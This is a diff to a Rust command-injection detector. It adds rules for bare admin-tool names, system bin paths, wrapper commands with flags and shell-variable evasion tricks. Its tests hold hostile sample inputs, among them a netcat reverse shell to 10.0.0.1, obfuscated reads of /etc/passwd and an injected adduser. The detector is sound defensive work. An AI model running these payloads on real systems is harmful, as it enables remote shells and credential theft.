@@ -20,6 +20,7 @@ mod lexicon;
 mod mail;
 
 use crate::detector::{Detector, Features, Input, Sink};
+use crate::location::Part;
 use crate::rule::{Class, Rule, Severity};
 use lexicon::{Command, Kind};
 use memchr::memmem::Finder;
@@ -147,6 +148,16 @@ static EXPANSION: Rule = Rule {
     description: "shell history, tilde, arithmetic, parameter or brace expansion syntax",
 };
 
+/// A value that is only the name of an administration tool no text or data names
+/// (`visudo`, `ansible-console`, `chef-shell`).
+static ALONE: Rule = Rule {
+    id: "command.alone",
+    class: Class::Command,
+    paranoia: 1,
+    severity: Severity::Critical,
+    description: "value is the bare name of a system administration tool",
+};
+
 /// The command detector.
 pub(crate) static DETECTOR: Detector = Detector {
     class: Class::Command,
@@ -163,6 +174,7 @@ pub(crate) static DETECTOR: Detector = Detector {
         &START_WEAK,
         &MAIL_PROTOCOL,
         &EXPANSION,
+        &ALONE,
     ],
     scan,
 };
@@ -230,6 +242,8 @@ struct Word {
     has_dir: bool,
     /// The directory was a `bin` directory.
     bin_dir: bool,
+    /// The directory was a system one: `bin/`, `/bin/`, `/usr/bin/`, `/usr/local/sbin/`…
+    sys_bin: bool,
     /// `$SHELL`/`${SHELL}`.
     shell_var: bool,
 }
@@ -333,7 +347,11 @@ fn read_word(s: &[u8], mut i: usize) -> Option<Word> {
                 i += 3;
             }
             b'$' => match s.get(i + 1) {
-                Some(b'@' | b'*' | b'!' | b'-' | b'?' | b'#' | b'$' | b'0'..=b'9') => {
+                // `c$_at`: a shell reads the variable `_at`, but the attacker means `$_`,
+                // empty in a fresh shell, inside the name.
+                Some(b'@' | b'*' | b'!' | b'-' | b'?' | b'#' | b'$' | b'0'..=b'9') | Some(b'_')
+                    if len > 0 || s.get(i + 1) != Some(&b'_') =>
+                {
                     pending_other = true;
                     i += 2;
                 }
@@ -456,12 +474,15 @@ fn finish_word(
         glob,
         has_dir: false,
         bin_dir: false,
+        sys_bin: false,
         shell_var,
     };
     let base = match full.iter().rposition(|&c| c == b'/') {
         Some(slash) => {
             word.has_dir = true;
-            word.bin_dir = full[..=slash].ends_with(b"bin/");
+            let dir = &full[..=slash];
+            word.bin_dir = dir.ends_with(b"bin/");
+            word.sys_bin = word.bin_dir && system_bin(dir);
             &full[slash + 1..]
         }
         None => full,
@@ -472,6 +493,15 @@ fn finish_word(
     word.name[..base.len()].copy_from_slice(base);
     word.len = base.len();
     Some(word)
+}
+
+/// `dir` (ending in `bin/`) is `bin/`, `sbin/`, or one under `/`, `/usr/` or
+/// `/usr/local/` — not `cabin/` or `node_modules/.bin/`.
+fn system_bin(dir: &[u8]) -> bool {
+    let dir = dir.strip_prefix(b"/").unwrap_or(dir);
+    let dir = dir.strip_prefix(b"usr/").unwrap_or(dir);
+    let dir = dir.strip_prefix(b"local/").unwrap_or(dir);
+    matches!(dir, b"bin/" | b"sbin/")
 }
 
 /// The command a word names, trying the forms attackers use: `cmd.exe`, `python3.10`,
@@ -753,10 +783,13 @@ fn judge(
                     Some(&START)
                 }
                 Evidence::Word
-                    if attack && tool_name(word.name()) && cli_args(s, word.span.end) =>
+                    if attack
+                        && (cmd.jargon || tool_name(word.name()))
+                        && cli_args(s, word.span.end) =>
                 {
                     Some(&START)
                 }
+                Evidence::End if cmd.jargon && !word.has_dir => Some(&ALONE),
                 Evidence::SystemPath
                 | Evidence::Url
                 | Evidence::Substitution
@@ -829,15 +862,44 @@ fn command_at(s: &[u8], i: usize, context: Context, sink: &mut Sink<'_>) {
         let end = s.len().min(word.span.end + 24);
         sink.report(rule, word.span.start..end);
     }
-    let next = skip_blanks(s, word.span.end);
     if cmd.wrapper
         && context != Context::Wrapped
-        && next > word.span.end
-        && s.get(next)
-            .is_some_and(|&c| c.is_ascii_alphanumeric() || matches!(c, b'\'' | b'"' | b'/'))
+        && let Some(next) = wrapped(s, word.span.end)
     {
         command_at(s, next, Context::Wrapped, sink);
     }
+}
+
+/// Where the command a wrapper runs starts, the wrapper ending at `end`: the next word,
+/// past the wrapper's flags, their arguments and numbers (`flock -u / whoami`,
+/// `sudo -u root id`, `timeout 5 curl …`).
+fn wrapped(s: &[u8], mut end: usize) -> Option<usize> {
+    let mut i = skip_blanks(s, end);
+    let mut after_flag = false;
+    for _ in 0..6 {
+        if i == end {
+            return None;
+        }
+        let c = *s.get(i)?;
+        let skip = if c == b'-' {
+            after_flag = true;
+            true
+        } else if after_flag || c.is_ascii_digit() {
+            after_flag = false;
+            read_word(s, i).and_then(|w| command_of(&w)).is_none()
+        } else {
+            false
+        };
+        if !skip {
+            return (c.is_ascii_alphanumeric() || matches!(c, b'\'' | b'"' | b'/')).then_some(i);
+        }
+        let token = s[i..]
+            .iter()
+            .position(|&c| matches!(c, b' ' | b'\t' | b'+' | b';' | b'|' | b'&' | b'\n'))
+            .map_or(s.len(), |p| i + p);
+        (end, i) = (token, skip_blanks(s, token));
+    }
+    None
 }
 
 /// A word that names no command: a `$(…)` still is shell syntax; `/usr/bin/x` still is a
@@ -845,6 +907,8 @@ fn command_at(s: &[u8], i: usize, context: Context, sink: &mut Sink<'_>) {
 fn not_a_command(word: &Word, context: Context, sink: &mut Sink<'_>) {
     if context == Context::Dollar {
         sink.report(&SUBSTITUTION_WEAK, word.span.clone());
+    } else if context == Context::Start && word.sys_bin && !word.glob {
+        sink.report(&START, word.span.clone());
     } else if context == Context::Start && word.bin_dir {
         sink.report(&START_WEAK, word.span.clone());
     }
@@ -949,6 +1013,10 @@ fn scan(input: &Input<'_>, sink: &mut Sink<'_>) {
     if input.features.union(PLAIN) == PLAIN
         && !(input.features.any(Features::DASH) && s.contains(&b'+'))
     {
+        // A path segment may name a tool's page (`/docs/ansible-console`).
+        if input.part != Part::Path && lexicon::lookup(s).is_some_and(|c| c.jargon) {
+            sink.report(&ALONE, 0..s.len());
+        }
         if let Some(span) = windows(s, input.features) {
             sink.report(&WINDOWS, span);
         }
@@ -994,7 +1062,8 @@ fn scan_all(input: &Input<'_>, sink: &mut Sink<'_>) {
                     {
                         assignment(s, st..i, sink);
                     }
-                    ident_start = None;
+                    // `cmd=garb=adduse[r];$garb`: the value may itself be an assignment.
+                    ident_start = Some(i + 1);
                 }
                 b'?' => ident_start = Some(i + 1),
                 _ if !is_ident_byte(b) => ident_start = None,
@@ -1431,6 +1500,95 @@ mod tests {
         // The method's name alone is not a call.
         assert!(hits("downloadstring").is_empty());
         assert_eq!(hits("-EncodedCommand"), ["command.windows"]);
+    }
+
+    #[test]
+    fn admin_tools_alone_or_with_plain_arguments() {
+        for attack in [
+            "visudo",
+            "ansible-console",
+            "chef-shell",
+            "'visudo'",
+            "\"chef-shell\"",
+            "code=ansible-console",
+        ] {
+            assert_eq!(hits(attack), ["command.alone"], "{attack}");
+        }
+        for attack in [
+            "cscli alerts list",
+            "'cscli' alerts list",
+            "\"cscli alerts list\"",
+            "pipx install something",
+        ] {
+            assert!(hits(attack).contains(&"command.start"), "{attack}");
+        }
+        // Not as a path segment (a tool's documentation page), not under a directory, not
+        // the names of languages, products or actions.
+        assert!(matches(&DETECTOR, Part::Path, "", "ansible-console", 1).is_empty());
+        for benign in [
+            "/docs/ansible-console",
+            "ansible",
+            "python3",
+            "whoami",
+            "shutdown",
+            "chef",
+            "cscli alerts list for the new team, see the notes below",
+            "visudo.html",
+        ] {
+            assert!(hits(benign).is_empty(), "{benign}: {:?}", hits(benign));
+        }
+    }
+
+    #[test]
+    fn system_bin_directories() {
+        for attack in ["/bin/ab", "bin/chef", "/usr/local/sbin/foo"] {
+            assert_eq!(hits(attack), ["command.start"], "{attack}");
+        }
+        // Other directories ending in `bin` hold no programs for certain.
+        assert!(hits("cabin/chalet").is_empty());
+        assert!(hits("node_modules/.bin/eslint").is_empty());
+        assert_eq!(hits2("node_modules/.bin/eslint"), ["command.start-weak"]);
+    }
+
+    #[test]
+    fn wrappers_with_flags() {
+        for attack in [
+            "flock -u / whoami",
+            "sudo -u root whoami",
+            "timeout 5 wget http://x.example/a",
+            "stdbuf -o0 nc -e /bin/sh 10.0.0.1 4444",
+        ] {
+            assert!(hits(attack).contains(&"command.separator"), "{attack}");
+        }
+        for benign in [
+            "time to sort",
+            "time - the movie, 2 tickets",
+            "nice -- a word",
+            "timeout 5 seconds",
+        ] {
+            assert!(hits(benign).is_empty(), "{benign}: {:?}", hits(benign));
+        }
+    }
+
+    #[test]
+    fn underscore_parameter_inside_a_name() {
+        for attack in [
+            "www.google.com;c$_at+/et$_c/pas$_swd",
+            "x=foo;c$_at /etc/passwd",
+        ] {
+            assert!(hits(attack).contains(&"command.evasion"), "{attack}");
+        }
+        for benign in ["read $_GET['x'] in PHP", "price$_total", "a$_b"] {
+            assert!(hits(benign).is_empty(), "{benign}: {:?}", hits(benign));
+        }
+    }
+
+    #[test]
+    fn nested_assignment() {
+        assert!(hits("cmd=garb=adduse[r];$garb pizza\n").contains(&"command.shell-syntax"));
+        for benign in ["a=b=c", "token=YWJj==", "x=y=z;w"] {
+            assert!(hits(benign).is_empty(), "{benign}: {:?}", hits(benign));
+        }
     }
 
     #[test]
